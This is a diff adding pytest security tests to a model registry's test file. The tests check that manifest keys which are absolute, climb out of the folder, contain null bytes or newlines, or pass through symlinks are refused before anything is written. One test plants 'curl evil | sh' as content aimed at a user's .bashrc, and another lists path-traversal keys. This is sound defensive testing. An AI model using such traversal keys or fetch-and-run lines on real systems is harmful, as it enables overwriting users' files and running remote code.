@@ -1,21 +1,26 @@
 """Registry protocol (tutorforge/registry/{store,registry,aliases,gate}.py) on both backends, the local dir and a
 real moto S3 server: register/list/download, idempotency, promotion gate, rollback, history, racing registrations,
-a crash mid-upload, corrupted objects, alias CAS conflicts, a real HF model round trip. Faults are injected by store
-wrappers (tests/support/registry_faults.py); the CLI, the register stage and the DVC remote are in
-test_registry_cli.py."""
+a crash mid-upload, corrupted objects, alias CAS conflicts, hostile manifests (keys that are absolute or climb out,
+planted straight into the storage: nothing is ever written outside the destination), a real HF model round trip.
+Faults are injected by store wrappers (tests/support/registry_faults.py), hostile content by
+tests/support/registry_hostile.py; the CLI, the register stage and the DVC remote are in test_registry_cli.py."""
 
 from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
+import tempfile
 import threading
+import uuid
 from pathlib import Path
 
 import pytest
 
 from tests.support.registry_data import GATE, make_artifacts, new_bucket, write_params
 from tests.support.registry_faults import CrashAfterUploads, InjectedCrash, InterferingStore
+from tests.support.registry_hostile import METRICS, UPLOAD_ID, plant_manifest, plant_object, plant_version, tree
 from tutorforge.registry.gate import promote
 from tutorforge.registry.registry import Registry, VersionConflict
 from tutorforge.registry.store import LocalStore, RegistryError, S3Store, Transfer, VerificationError
@@ -182,6 +187,122 @@ def test_alias_cas_conflict_retried_or_reported(open_reg, tmp_path):
     )
     with pytest.raises(RegistryError, match="gave up after 2"):
         reg.point("tutor", "staging", "v1", "mine again")
+
+
+@pytest.mark.parametrize(
+    ("kind", "checksum_ok"), [("absolute", True), ("absolute", False), ("climbing", True), ("climbing", False)]
+)
+def test_hostile_manifest_key_writes_nothing_outside_dest(open_reg, tmp_path, kind, checksum_ok):
+    """A manifest key that is an absolute path (`/home/u/.bashrc`) or climbs out of the download folder is refused
+    before any byte is written: the file it aims at stays byte-identical, whether its checksum matches or not."""
+    reg = open_reg()
+    home = tmp_path / "home"
+    (home / "models").mkdir(parents=True)
+    (home / ".bashrc").write_bytes(b"export PATH=/usr/bin\n")
+    dest = home / "models" / "tutor"  # the temp folder is a sibling of dest: models/.tutor.*.part
+    key = str(home / ".bashrc") if kind == "absolute" else "sft/../../../.bashrc"
+    plant_version(
+        reg.store,
+        "tutor",
+        "v1",
+        {"metrics.json": METRICS, key: b"curl evil | sh\n"},
+        wrong_checksum=() if checksum_ok else (key,),
+    )
+    before = tree(home)
+    for attempt in (lambda: reg.download("tutor", "v1", dest), lambda: reg.verify("tutor", "v1", deep=True)):
+        with pytest.raises(VerificationError) as err:
+            attempt()
+        msg = str(err.value)
+        assert repr(key) in msg and "tutor:v1" in msg and "\n" not in msg, msg
+        assert tree(home) == before  # sentinel intact, no dest, no temp folder left
+    with pytest.raises(VerificationError, match=re.escape(repr(key))):
+        reg.read_file("tutor", "v1", key)
+    with pytest.raises(VerificationError, match=re.escape(repr(key))):
+        reg.download("tutor", "v1", tmp_path / "elsewhere")
+    assert not (tmp_path / "elsewhere").exists() and tree(home) == before
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [
+        ("/no-such-dir-tutorforge/x",),
+        ("../x",),
+        ("sft/../../x",),
+        ("..",),
+        ("sft\\..\\..\\x",),
+        ("a\x00b",),
+        ("sft//x",),
+        ("./x",),
+        ("sft/./x",),
+        ("",),
+        ("sft/",),
+        ("line\nbreak",),
+        ("manifest.json",),  # download writes the manifest there
+        ("sft", "sft/x"),  # a file and a folder of the same name
+    ],
+)
+def test_manifest_key_set_is_checked_before_anything_is_written(open_reg, tmp_path, bad):
+    reg = open_reg()
+    good = {"metrics.json": METRICS, "a/config.json": b"{}"}
+    plant_version(reg.store, "tutor", "v1", good)
+    plant_manifest(reg.store, "tutor", "v1", {**good, **{k: b"x" for k in bad}})  # every good object is there
+    out = tmp_path / "out"
+    with pytest.raises(VerificationError) as err:
+        reg.download("tutor", "v1", out / "model")
+    assert repr(bad[-1]) in str(err.value) or repr(bad[0]) in str(err.value), err.value
+    assert "\n" not in str(err.value) and not out.exists()  # refused before even creating the parent
+    with pytest.raises(VerificationError):
+        reg.verify("tutor", "v1")
+    with pytest.raises(VerificationError):
+        reg.read_file("tutor", "v1", "metrics.json")
+
+
+def test_hostile_objects_prefix_alias_and_register_keys_are_refused(open_reg, tmp_path):
+    """The other data that becomes keys: the manifest's `objects` prefix, an alias record's version, and the
+    registry paths a registration is asked to upload (refused before anything is claimed or uploaded)."""
+    reg = open_reg()
+    plant_version(reg.store, "tutor", "v1", {"metrics.json": METRICS})
+    for objects in ("objects/../../v2/objects/x", "/objects/x", "objects", "objects/a/b", "../objects/x"):
+        plant_manifest(reg.store, "tutor", "v1", {"metrics.json": METRICS}, objects=objects)
+        with pytest.raises(VerificationError, match=re.escape(repr(objects))):
+            reg.download("tutor", "v1", tmp_path / "out" / "m")
+        assert not (tmp_path / "out").exists()
+    plant_manifest(reg.store, "tutor", "v1", {"metrics.json": METRICS})
+    assert reg.verify("tutor", "v1", deep=True) == []  # the planted version itself is fine
+    for bad_version in ("../../elsewhere", "v1\n"):  # `$` alone would let the newline through
+        record = {"alias": "production", "name": "tutor", "version": bad_version, "stack": []}
+        plant_object(reg.store, "models/tutor/aliases/production.json", json.dumps(record).encode())
+        with pytest.raises(RegistryError, match=re.escape(repr(bad_version))):
+            reg.download("tutor", "production", tmp_path / "out" / "m")
+        assert not (tmp_path / "out").exists()
+    src = make_artifacts(tmp_path / "a")
+    escaped = Path(tempfile.gettempdir()) / f"escape-{uuid.uuid4().hex}.txt"  # where ../<name> from the temp dir lands
+    for sources, extra in (({**src, "../escape": src["tokenizer"]}, {}), (src, {f"../{escaped.name}": b"x"})):
+        with pytest.raises(RegistryError, match="escape"):
+            reg.register("tutor", sources, extra, version="v2")
+        assert reg.versions("tutor") == ["v1"] and reg.store.list("models/tutor/v2/") == []
+    written = escaped.exists()
+    escaped.unlink(missing_ok=True)
+    assert not written
+    assert [k for k in reg.store.list("models/tutor/v1/") if UPLOAD_ID not in k] == ["models/tutor/v1/manifest.json"]
+
+
+def test_local_store_keys_never_follow_a_symlink_out_of_the_root(tmp_path):
+    """A symlink planted inside a local registry (models/tutor -> elsewhere) is refused for reads and writes alike:
+    a registration does not write through it, a download does not read through it."""
+    outside = tmp_path / "outside"
+    (outside / "v1").mkdir(parents=True)
+    (outside / "v1" / "manifest.json").write_text("{}")
+    root = tmp_path / "registry"
+    (root / "models").mkdir(parents=True)
+    (root / "models" / "tutor").symlink_to(outside)
+    before = tree(outside)
+    reg = Registry(LocalStore(root))
+    with pytest.raises(RegistryError, match="resolves outside"):
+        reg.register("tutor", make_artifacts(tmp_path / "a"), version="v2")
+    with pytest.raises(RegistryError, match="resolves outside"):
+        reg.download("tutor", "v1", tmp_path / "dl")
+    assert tree(outside) == before and not (tmp_path / "dl").exists()
 
 
 @pytest.mark.slow
